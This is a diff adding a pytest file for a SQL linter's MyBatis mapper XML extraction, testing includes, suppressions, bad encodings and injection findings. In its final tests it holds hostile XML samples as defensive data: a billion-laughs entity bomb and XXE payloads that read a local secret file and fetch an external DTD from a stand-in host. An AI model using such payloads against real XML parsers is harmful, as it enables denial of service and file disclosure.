@@ -1,0 +1,246 @@
+"""MyBatis mapper XML through the whole pipeline: names, lines, includes across files, suppressions,
+bad input and hostile XML."""
+
+from __future__ import annotations
+
+import socket
+import time
+from pathlib import Path
+
+import pytest
+
+from sqllint.config import Config
+from sqllint.engine import run
+from sqllint.extract import ExtractOptions
+from sqllint.extract.mybatis import extract_mybatis, parse_mapper
+from sqllint.records import Finding
+
+DOCTYPE = ('<?xml version="1.0" encoding="UTF-8"?>\n'
+           '<!DOCTYPE mapper PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN" '
+           '"http://mybatis.org/dtd/mybatis-3-mapper.dtd">\n')
+
+
+def write(root: Path, name: str, text: str) -> Path:
+    path = root / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def check(root: Path, *paths: str) -> list[Finding]:
+    return run(list(paths) or ["."], Config(root=root), root, jobs=1).findings
+
+
+def brief(findings: list[Finding]) -> list[tuple[str, str, int]]:
+    return [(f.path, f.rule, f.line) for f in findings]
+
+
+def test_statement_is_named_namespace_dot_id_at_its_element(tmp_path: Path) -> None:
+    data = (DOCTYPE + '<mapper namespace="com.x.UserMapper">\n\n  <select id="byId">\n'
+            "    SELECT * FROM users WHERE id = #{id}\n  </select>\n</mapper>\n").encode()
+    [query] = extract_mybatis(data, "UserMapper.xml", ExtractOptions()).queries
+    assert (query.scope, query.line, query.column, query.end_line, query.language, query.call) == (
+        "com.x.UserMapper.byId", 5, 3, 7, "xml", "select")
+    [finding] = check_one(tmp_path, data)
+    assert (finding.rule, finding.line, finding.scope) == ("S011", 5, "com.x.UserMapper.byId")
+
+
+def check_one(root: Path, data: bytes, name: str = "Mapper.xml") -> list[Finding]:
+    (root / name).write_bytes(data)
+    return check(root)
+
+
+def test_includes_across_files_of_one_namespace_and_by_qualified_refid(tmp_path: Path) -> None:
+    write(tmp_path, "common/Common.xml", DOCTYPE + """<mapper namespace="com.x.Common">
+      <sql id="audit">${alias}.created_at, ${alias}.updated_at</sql>
+      <sql id="page">LIMIT #{size}</sql>
+    </mapper>""")
+    write(tmp_path, "OrderMapper.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
+      <sql id="cols">o.id, o.status, <include refid="com.x.Common.audit"><property name="alias" value="o"/></include></sql>
+    </mapper>""")
+    write(tmp_path, "OrderMapperExt.xml", DOCTYPE + """<mapper namespace="com.x.OrderMapper">
+      <select id="recent">SELECT <include refid="cols"/> FROM orders o ORDER BY o.id
+        <include refid="com.x.Common.page"/></select>
+    </mapper>""")
+    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1, keep_parsed=True)
+    assert result.findings == []
+    [parsed] = result.parsed
+    assert parsed.query.text == "SELECT o.id, o.status, o.created_at, o.updated_at FROM orders o ORDER BY o.id\nLIMIT ?"
+    assert parsed.query.scope == "com.x.OrderMapper.recent"
+
+
+def test_a_changed_mapper_checked_alone_still_finds_fragments_elsewhere_in_the_project(tmp_path: Path) -> None:
+    write(tmp_path, "pyproject.toml", "[tool.sqllint]\n")
+    write(tmp_path, "res/Common.xml", DOCTYPE + '<mapper namespace="c.Common"><sql id="cols">id, name</sql></mapper>')
+    write(tmp_path, "res/UserMapper.xml", DOCTYPE + """<mapper namespace="c.UserMapper">
+      <select id="all">SELECT <include refid="c.Common.cols"/> FROM users ORDER BY id LIMIT 10</select></mapper>""")
+    assert run(["res/UserMapper.xml"], Config(root=tmp_path), tmp_path, jobs=1).findings == []
+
+
+def test_include_properties_nest_and_reach_tests_and_refids(tmp_path: Path) -> None:
+    data = (DOCTYPE + """<mapper namespace="n">
+      <sql id="byCol"><if test="${param} != null">AND ${col} = #{${param}}</if></sql>
+      <sql id="filters"><where><include refid="byCol"><property name="col" value="${alias}.status"/>
+        <property name="param" value="status"/></include></where></sql>
+      <select id="s">SELECT id FROM orders o <include refid="filters"><property name="alias" value="o"/></include></select>
+    </mapper>""").encode()
+    result = extract_mybatis(data, "M.xml", ExtractOptions())
+    assert [(q.variant.label, q.text) for q in result.queries if q.variant] == [
+        ("when status is absent", "SELECT id FROM orders o"),
+        ("when status is present", "SELECT id FROM orders o WHERE o.status = ?"),
+    ]
+
+
+@pytest.mark.parametrize(("mapper", "line", "message"), [
+    ('<mapper namespace="n">\n<select id="s">SELECT id FROM t\n<include refid="missing"/></select></mapper>', 5,
+     '<include refid="missing"> names no <sql> fragment in namespace n: statement n.s was not checked'),
+    ('<mapper namespace="n">\n<select id="s">SELECT id FROM t <include refid="other.Mapper.cols"/></select></mapper>', 4,
+     '<include refid="other.Mapper.cols"> names no <sql> fragment (no checked mapper has namespace other.Mapper): '
+     "statement n.s was not checked"),
+    ('<mapper namespace="n">\n<sql id="a"><include refid="b"/></sql>\n<sql id="b"><include refid="a"/></sql>\n'
+     '<select id="s">SELECT id FROM t WHERE <include refid="a"/></select></mapper>', 6,
+     '<include refid="a"> includes itself (n.a → n.b → n.a) (in a <sql> fragment, M.xml:5): '
+     "statement n.s was not checked"),
+])
+def test_unresolved_includes_are_reported_and_the_statement_skipped(mapper: str, line: int, message: str) -> None:
+    result = extract_mybatis((DOCTYPE + mapper).encode(), "M.xml", ExtractOptions())
+    assert result.queries == []
+    assert [(p.code, p.line, p.message) for p in result.problems] == [("E021", line, message)]
+
+
+def test_mapper_without_namespace_is_reported_and_still_checked(tmp_path: Path) -> None:
+    found = check_one(tmp_path, (DOCTYPE + '<mapper>\n<delete id="purge">DELETE FROM t</delete>\n</mapper>').encode())
+    assert [(f.rule, f.line) for f in found] == [("E021", 3), ("S004", 4)]
+    assert "no namespace" in found[0].message
+
+
+def test_malformed_xml_is_a_finding_with_its_line_and_other_files_go_on(tmp_path: Path) -> None:
+    write(tmp_path, "Broken.xml", DOCTYPE + '<mapper namespace="n">\n<select id="s">SELECT 1\n</mapper>\n')
+    write(tmp_path, "Good.xml", DOCTYPE + '<mapper namespace="g"><delete id="d">DELETE FROM t</delete></mapper>')
+    found = check(tmp_path)
+    assert brief(found) == [("Broken.xml", "E002", 5), ("Good.xml", "S004", 3)]
+    assert found[0].message == "XML syntax error: mismatched tag; SQL in this file was not extracted"
+
+
+@pytest.mark.parametrize("name,text", [
+    ("pom.xml", '<?xml version="1.0"?><project><modelVersion>4.0.0</modelVersion><build><plugins/></build></project>'),
+    ("logback.xml", "<configuration><appender name='x'><encoder><pattern>%d %msg</pattern></encoder></appender>"),
+    ("applicationContext.xml", '<beans><bean class="org.mybatis.spring.mapper.MapperScannerConfigurer"/></beans>'),
+    ("mybatis-config.xml", '<configuration><mappers><mapper resource="a.xml"/></mappers><broken></configuration>'),
+    ("data.xml", "<rows>" + "<row a='1'/>" * 10 + "<unclosed></rows>"),
+])
+def test_xml_that_is_not_a_mapper_is_skipped_silently(tmp_path: Path, name: str, text: str) -> None:
+    write(tmp_path, name, text)
+    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
+    assert result.findings == [] and result.stats.queries == 0
+
+
+def test_huge_and_binary_xml_that_is_not_a_mapper_is_skipped_silently(tmp_path: Path) -> None:
+    write(tmp_path, "big.xml", "<rows>" + "<row a='1'/>\n" * 200_000 + "</rows>")
+    (tmp_path / "compiled.xml").write_bytes(b"\x03\x00\x08\x00" + bytes(range(256)) * 10)
+    write(tmp_path, "BigMapper.xml", '<mapper namespace="n">' + "<!-- padding -->\n" * 200_000 + "</mapper>")
+    found = run(["."], Config(root=tmp_path, max_file_size=1_000_000), tmp_path, jobs=1).findings
+    assert [(f.path, f.rule) for f in found] == [("BigMapper.xml", "E003")]
+    assert "max-file-size" in found[0].message
+
+
+def test_invalid_utf8_is_noted_and_the_statements_still_checked(tmp_path: Path) -> None:
+    data = b'<mapper namespace="n">\n<!-- caf\xe9 -->\n<delete id="d">DELETE FROM t</delete></mapper>'
+    assert brief(check_one(tmp_path, data)) == [("Mapper.xml", "E003", 1), ("Mapper.xml", "S004", 3)]
+
+
+def test_gbk_mapper_is_read_in_its_declared_encoding(tmp_path: Path) -> None:
+    text = '<?xml version="1.0" encoding="GBK"?>\n<mapper namespace="n">\n<!-- 删除 -->\n' \
+           "<delete id=\"d\">DELETE FROM t WHERE note = '中文'</delete></mapper>"
+    mapper = parse_mapper(text.encode("gbk"), "M.xml")
+    assert mapper is not None and not mapper.problems
+    [query] = extract_mybatis(text.encode("gbk"), "M.xml", ExtractOptions()).queries
+    assert query.text == "DELETE FROM t WHERE note = '中文'" and query.line == 4
+
+
+def test_suppressions_in_xml_comments(tmp_path: Path) -> None:
+    data = (DOCTYPE + """<mapper namespace="n">
+      <!-- sqllint: ignore[S004] wipes the staging table on purpose -->
+      <delete id="wipe">DELETE FROM staging</delete>
+
+      <delete id="other">DELETE FROM logs</delete>
+
+      <select id="all">
+        <!-- sqllint: ignore[select-star] -->
+        SELECT * FROM t WHERE 1 = 1 <if test="x != null"><!-- sqllint: ignore[S004] --> AND x = #{x}</if>
+      </select>
+    </mapper>""").encode()
+    assert [(f.rule, f.line) for f in check_one(tmp_path, data)] == [("S004", 7)]
+    (tmp_path / "Mapper.xml").unlink()
+    whole = data.replace(b"<mapper", b"<!-- sqllint: ignore-file[S004] -->\n<mapper")
+    assert check_one(tmp_path, whole, "Whole.xml") == []
+
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE mapper [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<mapper namespace="n"><select id="s">SELECT '&lol9;' FROM t</select></mapper>
+"""
+
+
+@pytest.fixture
+def no_network(monkeypatch: pytest.MonkeyPatch) -> list[object]:
+    attempts: list[object] = []
+
+    def refuse(self: socket.socket, address: object) -> None:
+        attempts.append(address)
+        raise OSError("network access during a test")
+
+    monkeypatch.setattr(socket.socket, "connect", refuse)
+    monkeypatch.setattr(socket, "create_connection", lambda *a, **k: refuse(None, a))  # type: ignore[arg-type]
+    return attempts
+
+
+def test_billion_laughs_is_refused_not_expanded(tmp_path: Path, no_network: list[object]) -> None:
+    write(tmp_path, "Evil.xml", BILLION_LAUGHS)
+    started = time.perf_counter()
+    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
+    assert time.perf_counter() - started < 5  # expanded, it would be 10^9 "lol"s
+    assert [(f.rule, f.line) for f in result.findings] == [("E020", 3)]
+    assert "refused, not expanded" in result.findings[0].message and result.stats.queries == 0
+    assert no_network == []
+
+
+def test_external_entities_are_refused_and_never_read(tmp_path: Path, no_network: list[object]) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-VALUE")
+    write(tmp_path, "Xxe.xml", f"""<?xml version="1.0"?>
+<!DOCTYPE mapper [ <!ENTITY leak SYSTEM "file://{secret}"> <!ENTITY remote SYSTEM "http://198.51.100.7/x"> ]>
+<mapper namespace="n"><select id="s">SELECT '&leak;&remote;' FROM t</select></mapper>
+""")
+    write(tmp_path, "Param.xml", """<?xml version="1.0"?>
+<!DOCTYPE mapper [ <!ENTITY % dtd SYSTEM "http://198.51.100.7/evil.dtd"> %dtd; ]>
+<mapper namespace="p"><select id="s">SELECT 1</select></mapper>
+""")
+    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1, keep_parsed=True)
+    assert brief(result.findings) == [("Param.xml", "E020", 2), ("Xxe.xml", "E020", 2)]
+    assert result.parsed == [] and no_network == []
+    assert not any("TOP-SECRET" in f.message + f.sql for f in result.findings)
+
+
+def test_the_mybatis_doctype_is_accepted_and_never_fetched(tmp_path: Path, no_network: list[object]) -> None:
+    write(tmp_path, "M.xml", DOCTYPE + '<mapper namespace="n"><select id="s">SELECT id FROM t WHERE id = #{id}'
+                                       "</select></mapper>")
+    write(tmp_path, "Sys.xml", '<!DOCTYPE mapper SYSTEM "http://198.51.100.7/mapper.dtd">\n'
+                               '<mapper namespace="s"><select id="s">SELECT id FROM t WHERE id = #{id}</select></mapper>')
+    result = run(["."], Config(root=tmp_path), tmp_path, jobs=1)
+    assert result.findings == [] and result.stats.statements == 2 and no_network == []
+
+
+def test_interpolation_is_the_injection_finding(tmp_path: Path) -> None:
+    data = (DOCTYPE + """<mapper namespace="n">
+      <select id="s">SELECT id FROM t WHERE name LIKE '%${kw}%' ORDER BY ${sort} LIMIT 10</select>
+    </mapper>""").encode()
+    found = check_one(tmp_path, data)
+    assert [(f.rule, f.line) for f in found] == [("S003", 4), ("S003", 4), ("S005", 4)]
+    assert {f.message.split(" ")[0] for f in found if f.rule == "S003"} == {"`kw`", "`sort`"}
